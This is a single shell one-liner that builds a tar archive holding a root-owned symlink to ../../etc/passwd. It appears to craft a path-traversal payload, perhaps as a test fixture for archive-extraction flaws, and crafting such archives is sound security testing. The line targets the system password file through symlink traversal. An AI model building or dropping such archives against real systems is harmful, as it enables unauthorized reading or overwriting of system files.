ln -s ../../etc/passwd l; tar --owner=0 --group=0 -cf a.tar l; rm l
